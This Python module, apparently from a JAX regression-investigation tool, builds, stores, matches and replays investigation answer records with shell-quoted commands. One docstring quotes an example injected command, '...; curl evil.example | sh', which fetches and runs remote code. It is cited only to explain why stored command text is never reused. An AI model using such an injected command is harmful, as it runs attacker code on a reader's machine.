"""What an investigation answered, as a record stored beside the runs it rests on (schemas/answer-v1.schema.json):
a bisection's endpoints, criterion and why, first bad and last good release, each tested release's class and
evidence, the mode and why, the layer at the boundary, and the command that asks the same question again. `show`
lists them, `issue` reports the latest complete one, push/pull/copy carry them with the runs. A record is data from
whoever wrote the store: every reader escapes its text, and only the store's own records (Registry.answers: sealed
here, bundle/answer_seal.py) are reused or reported; the others (`Registry.answer_records`) are foreign.
"""

from __future__ import annotations

import json
import re
import shlex
from typing import Any, Sequence

from ..bundle.registry import Bundle, Registry, utc_now
from ..errors import ReproBundleError

BISECTION = "bisection"


def _plain(value: Any) -> Any:
    """JSON-plain data (what msgpack and the schema take): tuples become lists, anything else its str."""
    return json.loads(json.dumps(value, default=str))


def answer_record(bundle: Bundle, kind: str, command: str, runs: Sequence[dict], answer: dict, answer_id: str,
                  most_runs: int | None = None) -> dict:
    """The record of an answer of `kind` (schemas/answer-v1.schema.json): what every kind shares around its
    `answer` (JSON-plain data), the ids of the runs it rests on (at most `most_runs` of them)."""
    from .. import __version__

    run_ids = sorted({str(r["run_id"]) for r in runs if r.get("run_id")})
    return {"format": "reprobundle-answer", "format_version": 1, "answer_id": answer_id,
            "bundle_id": bundle.ref.bundle_id, "bundle": str(bundle.ref), "created": utc_now(), "kind": kind,
            "command": command, "runs": run_ids[:most_runs], "answer": _plain(answer), "reprobundle": __version__}


def store_answer(registry: Registry, record: dict, reuse: dict | None = None, runs_of: str | None = None) -> str | None:
    """`record` stored beside its runs, sealed as this store's own (Registry.put_answer; `runs_of`: the bundle whose
    runs it names, where not its own), with `reuse` (what it was asked, reuse_key's); its id (None for a read-only
    store, which kept no runs)."""
    if registry.store.read_only:
        return None
    return registry.put_answer({**record, "reuse": reuse} if reuse else record, runs_of=runs_of)


def latest_bisection(answers: Sequence[dict]) -> dict | None:
    """The latest complete bisection among a bundle's answer records (its own, oldest first: Registry.answers), or
    None: one --max-time cut short (`unfinished`) is where the next search starts, never what is reported."""
    return _latest(answers, BISECTION)


def _latest(answers: Sequence[dict], kind: str) -> dict | None:
    found = [a for a in answers if a.get("kind") == kind and not unfinished(a)]
    return found[-1] if found else None


EXPLANATION = "explanation"


def explain_command(ref: str, specs: Sequence[Any], forced_mode: str, by: str | None) -> str:
    """The explain command that asks the same question again (the flags the user gave)."""
    args = ["reprobundle", "explain", ref]
    for spec in specs:
        args += ["--jax", spec.jax] if not spec.settings else ["--variant", f"{spec.jax}:{spec.settings.describe()}"]
    if forced_mode != "auto":
        args.append("--retrace" if forced_mode == "retrace" else "--frozen")
    if by:
        args += ["--by", by]
    return " ".join(shlex.quote(a) for a in args)


def _experiment_summary(e: dict) -> dict:
    keep = ("kind", "what", "setting", "status", "measured", "outputs_vs_baseline", "vs_baseline", "vs_candidate",
            "screen", "default")
    return {k: e.get(k) for k in keep}


def explanation_answer(bundle: Bundle, result: dict, command: str, answer_id: str) -> dict:
    """The answer record of a finished explanation of `bundle`: the two contenders, mode and criterion and why, the
    diagnosis (kind, the sentence, the changed default it names, the lines to paste, where it still works, the
    setting that worked), each experiment's outcome, what was not tried and why."""
    d = result["diagnosis"]
    found = d.get("workaround") or d.get("partial") or d.get("cause")
    answer = {"baseline": result["baseline"], "candidate": result["candidate"], "platform": result["platform"],
              "mode": result["mode"], "mode_why": result.get("mode_why"), "by": result["by"],
              "by_why": result.get("by_why"), "regression": result.get("regression"),
              "diagnosis": {"kind": d["kind"], "summary": d["summary"], "default": d.get("default"),
                            "lines": d.get("lines"), "reach": d.get("reach"),
                            "setting": found.get("setting") if found else None},
              "experiments": [_experiment_summary(e) for e in result["experiments"]],
              "not_tried": list(result.get("not_tried") or [])}
    return answer_record(bundle, EXPLANATION, command, result["runs"], answer, answer_id)


def store_explanation(registry: Registry, bundle: Bundle, result: dict, command: str,
                      reuse: dict | None = None) -> str | None:
    """The explanation's answer stored beside its runs (with `reuse`); its id (None for a read-only store)."""
    return store_answer(registry, explanation_answer(bundle, result, command, Registry.new_run_id()), reuse)


def latest_explanation(answers: Sequence[dict]) -> dict | None:
    """The latest explanation among a bundle's answer records (its own, oldest first: Registry.answers), or None."""
    return _latest(answers, EXPLANATION)


COMMIT_BISECTION = "commit-bisection"


def commit_bisection_answer(bundle: Bundle, answer: dict, runs: Sequence[dict], command: str, answer_id: str) -> dict:
    """The answer record of a finished commit bisection of `bundle` (investigate/search/commit_bisect.py's answer)."""
    return answer_record(bundle, COMMIT_BISECTION, command, runs, answer, answer_id, most_runs=400)


def store_commit_bisection(registry: Registry, bundle: Bundle, answer: dict, runs: Sequence[dict],
                           command: str, reuse: dict | None = None) -> str | None:
    """The commit bisection's answer stored beside its runs (with `reuse`); its id (None for a read-only store)."""
    return store_answer(registry, commit_bisection_answer(bundle, answer, runs, command, Registry.new_run_id()),
                        reuse)


def latest_commit_bisection(answers: Sequence[dict]) -> dict | None:
    """The latest complete commit bisection among a bundle's answer records (its own, oldest first:
    Registry.answers), or None; one --max-time cut short is not reported."""
    return _latest(answers, COMMIT_BISECTION)


MINIMIZATION = "minimization"


def minimization_answer(bundle: Bundle, found: Any, command: str, answer_id: str, piece: Bundle | None = None) -> dict:
    """The answer record of a minimization of `bundle` (minimize/reduction.py's Minimization `found`): the two contenders, the
    property, the ops before and after, why it stopped (a search --max-time or Ctrl-C cut short is `unfinished`),
    the reduced bundle's ref (and, `piece`, its id) and whether its fresh replay still showed the property; the runs
    are that replay's."""
    answer = {"contenders": list(found.contenders), "property": found.property, "bits": found.bits,
              "ops_before": found.ops_before, "ops_after": found.ops_after, "stopped": found.stopped,
              "packed": found.packed, "packed_id": piece.ref.bundle_id if piece else None,
              "holds": (found.check or {}).get("holds"),
              "unfinished": None if found.stopped == "done" else f"the search stopped: {found.stopped}"}
    return answer_record(bundle, MINIMIZATION, command, found.runs, answer, answer_id)


def store_minimization_answer(registry: Registry, bundle: Bundle, found: Any, command: str,
                              reuse: dict | None = None) -> str | None:
    """The minimization `found` stored as an answer of `bundle`, sealed with its piece's id and the runs of the
    piece's fresh replay (a piece its ref no longer opens: no id, never reused); its id (None for a read-only store
    or a piece not packed)."""
    if registry.store.read_only or not found.packed:
        return None
    try:
        piece: Bundle | None = registry.resolve(found.packed)
    except ReproBundleError:
        piece = None
    record = minimization_answer(bundle, found, command, Registry.new_run_id(), piece)
    return store_answer(registry, record, reuse, runs_of=piece.ref.bundle_id if piece else None)


def own_piece(registry: Registry, bundle: Bundle, record: dict) -> Bundle | None:
    """The reduced bundle an own minimization record names, where it is still that piece of `bundle`: its ref opens
    the very bundle the record sealed (`packed_id`), whose labels say it was cut from `bundle`, and whose blobs
    verify. None otherwise (removed, another program under its name, its blobs altered): minimize again."""
    a = record.get("answer") or {}
    try:
        piece = registry.resolve(str(a.get("packed")))
    except ReproBundleError:
        return None
    labels = piece.manifest.get("labels") or {}
    if piece.ref.bundle_id != a.get("packed_id") or labels.get("minimized-from-id") != bundle.ref.bundle_id:
        return None
    return None if registry.verify(piece) else piece


# -- reuse: an investigation is a plan of steps over stored answers -------------------------------------------------


def origin(registry: Registry) -> dict:
    """Where a record was computed: this machine and the store it was written to. A field proves nothing by itself
    (a stranger writes any): `_matching` reads it only in the store's own records, whose seal covers it; a copy that
    push, pull or copy brought is foreign whatever it names."""
    import socket

    return {"host": socket.gethostname(), "store": registry.url}


def builds_of(manager, versions: Sequence[str]) -> dict[str, list[str]]:
    """Each release's environment identity here: `jax V jaxlib W BUILD` of every cached environment of it (a
    release's, not a local interpreter's nor a commit's), [] where none is cached; a rebuilt, added or removed
    environment changes it."""
    envs = [e for e in manager.list() if not e.local and e.over is None]
    return {v: sorted(f"jax {e.jax_version} jaxlib {e.jaxlib_version} {e.build}" for e in envs if e.jax_version == v)
            for v in sorted(set(versions))}


def reuse_key(registry: Registry, step: str, asked: dict, builds: dict[str, list[str]]) -> dict:
    """What a stored answer was asked (`asked`: the window, the mode and criterion as given, the options that
    change it), on which builds, computed where: the record's `reuse`, matched exactly by `reusable`."""
    return {"step": step, "asked": _plain(asked), "builds": builds, "origin": origin(registry)}


def reusable(registry: Registry, bundle: Bundle, kind: str, asked: dict, manager) -> dict | None:
    """The latest stored answer of `kind` of this bundle that was asked exactly `asked`, computed in this store on
    this machine, over builds that are still the ones here (builds_of), and finished; None where there is none:
    compute it. Only the store's own records count (Registry.answers: sealed here, their runs as sealed); a foreign
    one, a record without `reuse` (an older reprobundle's), one that differs in anything, or one --max-time cut
    short (`unfinished`: resumable's) is never reused as an answer."""
    return next((r for r in _matching(registry, bundle, kind, asked, manager) if not unfinished(r)), None)


def resumable(registry: Registry, bundle: Bundle, kind: str, asked: dict, manager) -> dict | None:
    """The latest stored answer `reusable` would match but for --max-time having cut it short: what the next search
    of the same question goes on from (resume_windows). None where there is none, or a finished one is newer."""
    latest = next(iter(_matching(registry, bundle, kind, asked, manager)), None)
    return latest if latest is not None and unfinished(latest) else None


def _matching(registry: Registry, bundle: Bundle, kind: str, asked: dict, manager):
    """The store's own answers of `kind` asked exactly `asked`, here, over the builds here, newest first."""
    if registry.store.read_only:
        return
    here, wanted = origin(registry), _plain(asked)
    for record in reversed(registry.answers(bundle.ref.bundle_id)):
        key = record.get("reuse")
        if record.get("kind") != kind or record.get("bundle_id") != bundle.ref.bundle_id or not isinstance(key, dict):
            continue
        builds = key.get("builds")
        if key.get("asked") == wanted and key.get("origin") == here and isinstance(builds, dict) and builds and \
                builds == builds_of(manager, list(builds)):
            yield record


def unfinished(record: dict) -> bool:
    """Whether a stored answer is one --max-time cut short: its search, a change of its window, its layer, a kind
    of change it did not examine."""
    a = record.get("answer") or {}
    return bool(a.get("unfinished") or any(isinstance(c, dict) and c.get("unfinished") for c in
                                           [*(a.get("changes") or []), *(a.get("set_aside") or [])]))


def resume_windows(record: dict) -> list[dict]:
    """The windows a stored bisection --max-time cut short had narrowed, each where the next search of its mode and
    criterion starts (bisection.resumed_window): {"mode", "criterion", "last_good", "first_bad", "classes",
    "evidence", "cut_at"}; the headline's with its classes, another change's with its own ends. A kind found as several
    changes (split) is searched again from its endpoints: no one window stands for it."""
    a = record.get("answer") or {}
    head = {k: a.get(k) for k in ("mode", "criterion", "last_good", "first_bad", "classes", "evidence", "cut_at")}
    others = [{k: c.get(k) for k in ("mode", "criterion", "last_good", "first_bad", "cut_at")}
              for c in (a.get("changes") or [])[1:] if isinstance(c, dict)]
    windows = [head, *others]
    kinds = [(w["mode"], w["criterion"]) for w in windows]
    return [w for w in windows if kinds.count((w["mode"], w["criterion"])) == 1]


def stored_ago(created: str | None, run_started: str | None = None) -> str:
    """`stored 2 min ago`, from a record's `created` (UTC); `stored earlier in this run` where that is at or after
    `run_started` (the investigation's own start: a later change's step reusing what an earlier one stored)."""
    from datetime import UTC, datetime

    try:
        then = datetime.strptime(str(created), "%Y-%m-%dT%H:%M:%S.%fZ").replace(tzinfo=UTC)
    except ValueError:
        return "stored"
    if run_started is not None and str(created) >= run_started:
        return "stored earlier in this run"
    s = max(0.0, (datetime.now(UTC) - then).total_seconds())
    said = f"{s:.0f} s" if s < 90 else f"{s / 60:.0f} min" if s < 5400 else f"{s / 3600:.0f} h" if s < 172800 \
        else f"{s / 86400:.0f} days"
    return f"stored {said} ago"


BYS = ("outputs", "bits", "time")
_LABEL = re.compile(r"^(?P<jax>\S+?)(?P<retraced> retraced)?(?: \[(?P<settings>.*)\])?$", re.S)


def asked_again(record: dict, ref: str) -> str:
    """The command that asks a stored answer's question again of `ref`, rebuilt from the record's fields and each
    word shell-quoted: what a report shows for pasting. Never the record's own `command` text, which is whatever
    the store's writer put there (a hostile one's "...; curl evil.example | sh" would reach a reader's shell)."""
    found = record.get("answer")
    a: dict = found if isinstance(found, dict) else {}
    mode = "--retrace" if a.get("mode") == "retrace" else "--frozen"
    by = ["--by", str(a["by"])] if a.get("by") in BYS else []
    if record.get("kind") == EXPLANATION:
        args = ["reprobundle", "explain", ref]
        for label in (a.get("baseline"), a.get("candidate")):
            match = _LABEL.match(str(label or "?"))
            jax, settings = (match["jax"], match["settings"]) if match else (str(label), None)
            args += ["--variant", f"{jax}:{settings}"] if settings else ["--jax", jax]
        return " ".join(shlex.quote(w) for w in [*args, mode, *by])
    args = ["reprobundle", "bisect", ref, "--good", str(a.get("good") or "?"), "--bad", str(a.get("bad") or "?")]
    if isinstance(a.get("nightly"), dict):
        args.append("--nightly")
    return " ".join(shlex.quote(w) for w in [*args, mode, *by])
